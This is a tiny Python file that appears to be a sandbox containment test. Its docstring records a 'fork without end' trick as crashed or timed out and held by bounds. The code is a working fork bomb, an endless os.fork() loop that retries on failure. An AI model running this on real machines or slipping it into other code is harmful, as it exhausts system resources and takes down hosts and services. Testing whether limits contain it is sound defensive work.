"""Trick: fork without end.
Outcome: crashed | timed_out
Held by: bounds
"""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
